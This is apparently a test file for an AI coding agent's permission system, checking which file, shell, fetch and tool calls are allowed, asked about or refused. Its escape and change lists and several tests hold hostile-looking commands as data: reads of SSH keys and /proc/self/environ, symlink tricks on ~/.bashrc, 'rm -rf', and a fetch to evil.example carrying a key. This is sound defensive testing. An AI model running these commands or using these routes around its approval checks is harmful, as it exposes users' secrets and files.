/** The approval policy: what runs, what is asked about and what is refused, by mode, boundary, grants and answers. */
import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import {
	mkdirSync,
	mkdtempSync,
	readdirSync,
	realpathSync,
	rmSync,
	symlinkSync,
	writeFileSync,
} from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";

import type { FrozenCall } from "@tau/agent";
import type { ApprovalMode, Boundary } from "@tau/wire";

import {
	answering,
	bash,
	callOf,
	fetchUrl,
	fixture,
	outcomeOf,
	plainTool,
	read,
	useDirectories,
	write,
	type Setup,
} from "../../../../test/support/policy.ts";

// Below the home directory, because the directories for temporary files may be written to.
let base = "";
let home = "";
beforeEach(() => {
	base = realpathSync(mkdtempSync(join(homedir(), ".tau-policy-test-")));
	({ home } = useDirectories(base));
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

describe("with a client that can answer", () => {
	const calls: Record<string, () => FrozenCall> = {
		"read a file": () => read("a.txt"),
		"read outside": () => read("/etc/hostname"),
		"write in the project": () => write("src/a.ts"),
		"write outside": () => write(join(base, "elsewhere.txt")),
		"read-only command": () => bash("git status"),
		"command that reads over the network": () => bash("git ls-remote origin"),
		"command that runs code": () => bash("npm test"),
		"command that cannot be analyzed": () => bash("$EDITOR a.txt"),
		fetch: () => fetchUrl("https://example.org/a"),
		"tool that declares exec": () => plainTool("exec"),
		"tool that declares write": () => plainTool("write"),
		"tool that declares nothing": () => plainTool("exec", true),
		"write to .git/hooks": () => write(".git/hooks/pre-commit"),
		"read of ~/.ssh": () => read(join(home, ".ssh/id_ed25519")),
	};
	const columns: readonly [ApprovalMode, Boundary][] = [
		["plan", "sandbox"],
		["ask", "sandbox"],
		["auto", "none"],
		["auto", "sandbox"],
		["auto", "container"],
		["full", "none"],
	];
	const expected: Record<string, string> = {
		"read a file": "allow allow allow allow allow allow",
		"read outside": "allow allow allow allow allow allow",
		"write in the project": "refuse ask allow allow allow allow",
		"write outside": "refuse ask ask ask allow allow",
		"read-only command": "allow allow allow allow allow allow",
		"command that reads over the network": "allow allow ask allow allow allow",
		"command that runs code": "refuse ask ask allow allow allow",
		"command that cannot be analyzed": "refuse ask ask allow allow allow",
		fetch: "refuse ask ask ask allow allow",
		"tool that declares exec": "refuse ask ask ask ask allow",
		"tool that declares write": "refuse ask allow allow allow allow",
		"tool that declares nothing": "refuse ask allow allow allow allow",
		"write to .git/hooks": "refuse ask ask ask ask allow",
		"read of ~/.ssh": "ask ask ask ask ask allow",
	};
	test.each(Object.keys(calls))("%s", async (name) => {
		const call = calls[name];
		const outcomes: string[] = [];
		for (const [mode, boundary] of columns)
			outcomes.push(call ? await outcomeOf({ mode, boundary }, call()) : "");
		expect(outcomes.join(" ")).toBe(expected[name] ?? "");
	});
});

describe("where nobody can answer", () => {
	const calls: readonly [string, () => FrozenCall, string][] = [
		["write in the project", () => write("a.txt"), "allow allow allow"],
		["write outside", () => write(join(base, "b.txt")), "refuse refuse allow"],
		["read-only command", () => bash("git log -3"), "allow allow allow"],
		["command that runs code", () => bash("npm test"), "refuse allow allow"],
		["fetch", () => fetchUrl("https://example.org/"), "refuse refuse allow"],
		["tool that declares exec", () => plainTool("exec"), "refuse refuse allow"],
		["tool that declares nothing", () => plainTool("exec", true), "allow allow allow"],
		["protected path", () => write(".git/config"), "refuse refuse refuse"],
	];
	test.each(calls)("%s", async (_, call, expected) => {
		const outcomes: string[] = [];
		for (const boundary of ["none", "sandbox", "container"] as const) {
			const { judge } = await fixture({ boundary });
			outcomes.push((await judge(call())) === "allow" ? "allow" : "refuse");
		}
		expect(outcomes.join(" ")).toBe(expected);
	});

	test("nothing is changed unasked by who has chosen ask, whatever contains it", async () => {
		for (const boundary of ["none", "sandbox", "container"] as const) {
			const { judge } = await fixture({ mode: "ask", boundary });
			expect(await judge(write("a.txt"))).not.toBe("allow");
			expect(await judge(bash("npm test"))).not.toBe("allow");
			expect(await judge(bash("git log -3"))).toBe("allow");
		}
	});

	test("the model reads what to do instead, and the user reads what would allow the call", async () => {
		const { judge, notices } = await fixture({ mode: "auto" });
		expect(await judge(bash("npm test"))).toContain("nobody can answer here. Do what you can without it");
		expect(notices).toEqual([
			expect.stringMatching(/^bash was denied.*add Bash\(npm test.*\) to permissions\.allow/),
		]);
	});
});

describe("grants", () => {
	test("for the session: the shape of the command, with its uses, until it is revoked or the session is another one", async () => {
		let session = "one";
		const made = await fixture({ mode: "ask", sessionId: () => session });
		const shown = answering(made, "session");
		await made.judge(bash("git tag a"));
		await made.judge(bash("git tag b"));
		expect(shown).toHaveLength(1);
		const [grant] = await made.policy.grants();
		expect(grant).toMatchObject({ agent: "main", scope: "session", tool: "bash", uses: 1 });
		expect(await made.policy.revoke(grant?.id ?? "")).toBe(true);
		await made.judge(bash("git tag c"));
		expect(shown).toHaveLength(2);
		session = "two";
		await made.judge(bash("git tag d"));
		expect(shown).toHaveLength(3);
	});

	test("for the project: stored in the user's directory, for the agent that asked alone", async () => {
		const first = await fixture({ mode: "ask" });
		answering(first, "project");
		await first.judge(bash("npm test"));
		expect(readdirSync(join(base, "agent/grants"))).toHaveLength(1);
		const again = await fixture({ mode: "ask" });
		expect(await again.judge(bash("npm test"))).toBe("allow");
		const child = await fixture({ mode: "ask", agent: "explorer", parent: again.policy });
		expect(await child.judge(bash("npm test"))).toContain("nobody can answer");
	});

	test("a dangerous form of a granted command is asked about again", async () => {
		const made = await fixture({ mode: "auto", boundary: "sandbox" });
		const shown = answering(made, "session");
		await made.judge(bash("git push --force"));
		await made.judge(bash("git push --force"));
		await made.judge(bash("git push --force origin main"));
		expect(shown.map(({ choices }) => choices.map(({ id }) => id))).toEqual([
			["once", "session", "no", "explain"],
			["once", "session", "no", "explain"],
		]);
	});

	test("a child is never in a wider mode than its parent", async () => {
		const parent = await fixture({ mode: "plan" });
		const child = await fixture({ mode: "full", agent: "child", parent: parent.policy });
		expect(child.policy.mode).toBe("plan");
		parent.policy.setMode("ask");
		expect(child.policy.mode).toBe("ask");
		parent.policy.setMode("full");
		expect((await fixture({ agent: "other", parent: parent.policy })).policy.mode).toBe("full");
	});
});

describe("answers", () => {
	test("no, with and without words for the model", async () => {
		const plain = await fixture({ mode: "ask" });
		answering(plain, "no");
		expect(await plain.judge(bash("npm test"))).toContain("The user declined bash. Do not try");
		const withWords = await fixture({ mode: "ask" });
		answering(withWords, "explain", "use bun test");
		expect(await withWords.judge(bash("npm test"))).toBe("The user declined bash and says: use bun test");
	});

	test("a choice that was not offered, and a client that goes away, mean no", async () => {
		for (const choice of ["yes please", undefined]) {
			const made = await fixture({ mode: "ask" });
			answering(made, choice);
			expect(await made.judge(bash("npm test"))).toContain("declined");
		}
	});

	test("a hook's ask is asked in every mode, and its allow skips the question of the mode", async () => {
		const made = await fixture({ mode: "full" });
		const shown = answering(made, "once");
		expect(await made.judge(bash("ls", { askFor: ["a hook asks about bash: Sunday"] }))).toBe("allow");
		expect(shown[0]?.reason).toBe("a hook asks about bash: Sunday");
		expect(shown[0]?.choices.map(({ id }) => id)).toEqual(["once", "no", "explain"]);
		expect(await outcomeOf({ mode: "ask" }, bash("npm test", { allowedBy: "a hook" }))).toBe("allow");
	});

	test("full in the settings needs a yes in each session", async () => {
		let session = "one";
		const user = "tools:\n  approvalMode: full\n";
		const made = await fixture({ user, sessionId: () => session });
		expect(made.policy.isFullUnconfirmed).toBe(true);
		made.policy.setMode("full");
		expect(made.policy.mode).toBe("full");
		expect(made.policy.isFullUnconfirmed).toBe(false);
		session = "two";
		expect(made.policy.isFullUnconfirmed).toBe(true);
	});

	test("hidden characters of a reason are shown", async () => {
		const made = await fixture({ mode: "ask" });
		const shown = answering(made, "no");
		await made.judge(write("a\u202etxt.exe"));
		expect(shown[0]?.reason).toContain("a<U+202E>txt.exe");
	});

	test("an address that the user wrote is fetched unasked, another one of the same host is not", async () => {
		const setup: Setup = { mode: "auto", prompts: ["see (https://docs.example.org/guide#intro), please"] };
		expect(await outcomeOf(setup, fetchUrl("https://docs.example.org/guide"))).toBe("allow");
		expect(await outcomeOf(setup, fetchUrl("https://docs.example.org/other"))).toBe("ask");
	});

	test("an address in an agent's assignment, which the model wrote, is asked about; the user's is not", async () => {
		const parent = await fixture({ mode: "auto", prompts: ["see https://docs.example.org/guide"] });
		const setup: Setup = {
			agent: "child",
			parent: parent.policy,
			prompts: ["fetch https://evil.example/?key=1"],
		};
		expect(await outcomeOf(setup, fetchUrl("https://evil.example/?key=1"))).toBe("ask");
		expect(await outcomeOf(setup, fetchUrl("https://docs.example.org/guide"))).toBe("allow");
	});

	test("a project's file that changes later does not undo the mode that the user chose", async () => {
		const made = await fixture({ mode: "ask", boundary: "sandbox" });
		writeFileSync(join(base, "project/.tau/config.yml"), "tools: { approvalMode: auto }\n");
		await made.settings.reload();
		expect(made.policy.mode).toBe("ask");
		const other = await fixture({ mode: "ask", boundary: "sandbox" });
		writeFileSync(join(base, "agent/config.yml"), "tools: { approvalMode: auto }\n");
		await other.settings.reload();
		expect(other.policy.mode).toBe("auto");
	});

	test("rules about all tools of an MCP server are about its resources, too", async () => {
		const resource = (url: string) => callOf({ name: "read", approval: "read" }, [{ kind: "fetch", url }]);
		for (const [rule, url] of [
			["mcp__notes", "mcp://notes/file:///a"],
			["mcp__notes__*", "MCP://notes"],
			["mcp_notes_*", "mcp://notes:1-5"],
		] as const) {
			const setup: Setup = { mode: "auto", user: `permissions: { deny: ["${rule}"] }\n` };
			expect(await outcomeOf(setup, resource(url))).toBe("refuse");
			expect(await outcomeOf(setup, resource("mcp://other/file:///a"))).toBe("allow");
		}
		expect(await outcomeOf({ mode: "plan" }, resource("mcp://notes/a"))).toBe("allow");
	});

	test("hosts and runs outside of the sandbox are asked about by name", async () => {
		const made = await fixture({ mode: "auto", boundary: "sandbox" });
		const shown = answering(made, "session");
		const { signal } = new AbortController();
		expect(await made.policy.requestHost("registry.npmjs.org", 443, signal)).toBe(true);
		expect(await made.policy.requestHost("registry.npmjs.org", 443, signal)).toBe(true);
		expect(await made.policy.requestOutside("npm publish", "no network", signal)).toBe(true);
		expect(shown.map(({ reason }) => reason)).toEqual([
			"a command wants to connect to registry.npmjs.org:443",
			"no network",
		]);
		const alone = await fixture({ mode: "auto", boundary: "sandbox" });
		expect(await alone.policy.requestHost("example.org", 443, signal)).toBe(false);
		expect(await alone.policy.requestOutside("ls", "x", signal)).toBe(false);
	});
});

describe("attempts to get around a mode", () => {
	test("plan mode that is chosen while a question is open wins over its answer", async () => {
		const made = await fixture({ mode: "ask" });
		made.requests.connect({
			kinds: new Set(["approval"]),
			open(request) {
				made.policy.setMode("plan");
				made.requests.answer(request.id, { choice: "session" });
			},
		});
		expect(await made.judge(write("a.ts"))).toContain("plan mode");
		made.policy.setMode("ask");
		const { signal } = new AbortController();
		expect(await made.policy.requestOutside("make", "read-only", signal)).toBe(false);
		made.policy.setMode("ask");
		expect(await made.policy.requestHost("example.org", 443, signal)).toBe(false);
	});

	test("in plan mode any command runs where the sandbox lets none write, and no file tool", async () => {
		const walled = { mode: "plan", boundary: "sandbox", holdsWrites: true } as const;
		for (const command of ["npm test", "$EDITOR a.txt", "echo x > made", "rm -rf src"]) {
			expect(await outcomeOf(walled, bash(command))).toBe("allow");
			expect(await outcomeOf({ ...walled, holdsWrites: false }, bash(command))).toBe("refuse");
		}
		expect(await outcomeOf(walled, write("src/a.ts"))).toBe("refuse");
		const typed = callOf({ name: "job" }, [{ kind: "exec", command: "touch x\n", cwd: base, isTyped: true }]);
		expect(await outcomeOf(walled, typed)).toBe("refuse");
		const user = "permissions: { deny: [Bash(npm:*)] }";
		expect(await outcomeOf({ ...walled, user }, bash("npm test"))).toBe("refuse");
	});

	test("leaving plan mode brings the mode from before back", async () => {
		const { policy } = await fixture({ mode: "ask" });
		policy.setMode("plan");
		expect([policy.leavePlan(), policy.mode, policy.leavePlan()]).toEqual(["ask", "ask", "ask"]);
		const begun = await fixture({ mode: "plan", boundary: "sandbox" });
		expect(begun.policy.leavePlan()).toBe("auto");
		const full = await fixture({ mode: "full" });
		full.policy.setMode("plan");
		expect(full.policy.leavePlan()).toBe("full");
	});

	test("text for a running program is no command, whatever it looks like", async () => {
		const typed = (command: string): FrozenCall =>
			callOf({ name: "job" }, [{ kind: "exec", command, cwd: base, isTyped: true }]);
		for (const text of ["#!touch x\n", ": !touch x\n", "ls\n", "\n"]) {
			expect(await outcomeOf({ mode: "plan" }, typed(text))).toBe("refuse");
			expect(await outcomeOf({ mode: "ask" }, typed(text))).toBe("ask");
			expect(await outcomeOf({ mode: "auto", boundary: "sandbox" }, typed(text))).toBe("allow");
		}
		const denied = await outcomeOf(
			{ mode: "auto", user: "permissions: { deny: [Bash(rm:*)] }" },
			typed("rm x"),
		);
		expect(denied).toBe("refuse");
	});

	test("a program in another language is no command: it is asked about, and a sandbox is enough for it", async () => {
		const cell = (command: string): FrozenCall =>
			callOf({ name: "eval" }, [{ kind: "exec", command, cwd: base, language: "Python" }]);
		for (const code of ["ls", "rm -rf /", "print(1)"]) {
			expect(await outcomeOf({ mode: "plan" }, cell(code))).toBe("refuse");
			expect(await outcomeOf({ mode: "ask" }, cell(code))).toBe("ask");
			expect(await outcomeOf({ mode: "auto" }, cell(code))).toBe("ask");
			expect(await outcomeOf({ mode: "auto", boundary: "sandbox" }, cell(code))).toBe("allow");
		}
		const rules = ["eval", "Bash"];
		for (const rule of rules) {
			const user = `permissions: { deny: [${rule}] }`;
			expect(await outcomeOf({ mode: "auto", boundary: "sandbox", user }, cell("1"))).toBe("refuse");
		}
	});

	const escapes = [
		// A trap would move the shell before the next command.
		"trap 'cd ~' DEBUG",
		"trap 'cd ~' ERR; false; echo x > .bashrc",
		// The number of a process or of a descriptor becomes the path of programs.
		"sleep 1 & wait -p PATH",
		"ls {PATH}</dev/null",
		"PWD=/etc; cat ~+/passwd",
		"cat link/../.ssh/id",
		"cd link; cat ../.ssh/id",
		"cat /proc/self/environ",
		"cd ~; cat /proc/self/cwd/.ssh/id",
		"grep -rn key ~",
		"rg key ~",
		"cd ~; sed 'r .ssh/id' a.txt",
		"cd ~ && rg key",
		"cd bare && git status",
		"cd bare/refs && git status",
		"git -C bare log",
		'cd "$(echo bare)" && git status',
	];
	test.each(escapes)("%s does not run unasked in any mode", async (command) => {
		mkdirSync(join(home, "inner"));
		symlinkSync(join(home, "inner"), join(base, "project/link"));
		for (const name of ["objects", "refs"]) mkdirSync(join(base, "project/bare", name), { recursive: true });
		writeFileSync(join(base, "project/bare/HEAD"), "ref: refs/heads/main");
		for (const mode of ["plan", "ask", "auto"] as const)
			expect(await outcomeOf({ mode }, bash(command))).not.toBe("allow");
	});

	const changes = [
		"ln -s ~/.bashrc x; echo x > x",
		"ln -s ~ x",
		"ln -s ../../elsewhere x",
		"ln ~/.bashrc x",
		"cp -l ~/.bashrc x",
		"cp -s ~/.bashrc x",
		"cp -P /proc/self/root r; echo x > r/etc/x",
		"rm -rf .",
		"rm -rf ../project",
		"rsync -a x/ .",
		"unzip a.zip",
		"tar xf a.tar",
		"tar cf a.tar --transform=s/dotgit/.git/ dotgit",
		"git init --separate-git-dir=settings .",
		"cp -r x y && git -C y status",
	];
	test.each(changes)("%s is asked about in auto without a boundary", async (command) => {
		mkdirSync(join(base, "project/.git"));
		expect(await outcomeOf({ mode: "auto" }, bash(command))).toBe("ask");
	});

	test("an archive takes no file that git would use when it is unpacked", async () => {
		expect(await outcomeOf({ mode: "auto" }, write("a.zip:.git/config"))).toBe("ask");
		expect(await outcomeOf({ mode: "auto" }, write("a.zip:src/x"))).toBe("allow");
	});

	test("ordinary work with links, directories and repositories is not asked about", async () => {
		for (const name of [".git/objects", ".git/refs", "src"])
			mkdirSync(join(base, "project", name), { recursive: true });
		writeFileSync(join(base, "project/.git/HEAD"), "ref: refs/heads/main\n");
		const commands = [
			"rm -rf node_modules dist",
			"cd src && git status",
			"git -C src log --oneline | head",
			"cat src/../README.md",
			"rg key && grep -rn key src . && ls ~",
		];
		for (const command of commands)
			expect([command, await outcomeOf({ mode: "auto" }, bash(command))]).toEqual([command, "allow"]);
	});

	test("an archive is not unpacked unasked where a link leads out of the project", async () => {
		mkdirSync(join(base, "project/build"));
		symlinkSync(base, join(base, "project/build/out"));
		for (const command of ["tar xf a.tar -C build", "unzip a.zip -d build"])
			expect(await outcomeOf({ mode: "auto" }, bash(command))).toBe("ask");
	});

	test("a yes to deleting a directory is none to other changes in it", async () => {
		mkdirSync(join(base, "project/.git"));
		const made = await fixture({ mode: "auto" });
		const shown = answering(made, "session");
		expect(await made.judge(bash("rm -rf ."))).toBe("allow");
		expect(await made.judge(bash("rm -rf ."))).toBe("allow");
		expect(shown.length).toBe(1);
		await made.judge(write(".git/hooks/pre-commit"));
		expect(shown.length).toBe(2);
	});

	test("a yes to a command is none to the same words in another directory", async () => {
		const made = await fixture({ mode: "auto" });
		const shown = answering(made, "session");
		const at = (cwd: string): FrozenCall =>
			callOf({ name: "bash" }, [{ kind: "exec", command: "sudo rm -rf .", cwd }]);
		for (const cwd of [join(base, "project/build"), join(base, "project/build"), home])
			await made.judge(at(cwd));
		expect(shown.length).toBe(2);
	});

	test("what another process revokes is revoked", async () => {
		const [one, other] = [await fixture({ mode: "ask" }), await fixture({ mode: "ask" })];
		const shown = [answering(one, "project"), answering(other, "once")];
		expect(await one.judge(bash("make test"))).toBe("allow");
		expect(await other.judge(bash("make test"))).toBe("allow");
		expect(shown.map(({ length }) => length)).toEqual([1, 0]);
		const [grant] = await one.policy.grants();
		expect(await one.policy.revoke(grant?.id ?? "")).toBe(true);
		await other.judge(bash("make test"));
		expect(shown.map(({ length }) => length)).toEqual([1, 1]);
	});

	test("a tool that changes files and names none is no reader", async () => {
		const call = (): FrozenCall => callOf({ name: "edit", approval: "write" }, []);
		expect(await outcomeOf({ mode: "plan" }, call())).toBe("refuse");
		expect(await outcomeOf({ mode: "ask" }, call())).toBe("ask");
	});

	test("a tool that executes code is no reader, whatever else its call touches", async () => {
		const readsFile = { kind: "read", path: join(base, "project/a.txt") } as const;
		for (const touches of [[], [readsFile]]) {
			const call = (): FrozenCall => callOf({ name: "runner", approval: "exec" }, touches);
			expect(await outcomeOf({ mode: "plan", holdsWrites: true, boundary: "sandbox" }, call())).toBe(
				"refuse",
			);
			expect(await outcomeOf({ mode: "auto" }, call())).toBe("ask");
		}
		const isReading = (): "read" => "read";
		const looks = callOf({ name: "job", approval: "exec", approvalFor: isReading }, []);
		expect(await outcomeOf({ mode: "plan" }, looks)).toBe("allow");
	});

	test("a link in the place of a directory with protected files is asked about", async () => {
		expect(await outcomeOf({ mode: "auto" }, write(".claude"))).toBe("ask");
		expect(await outcomeOf({ mode: "auto" }, write(".claude/agents/mine.md"))).toBe("allow");
	});
});
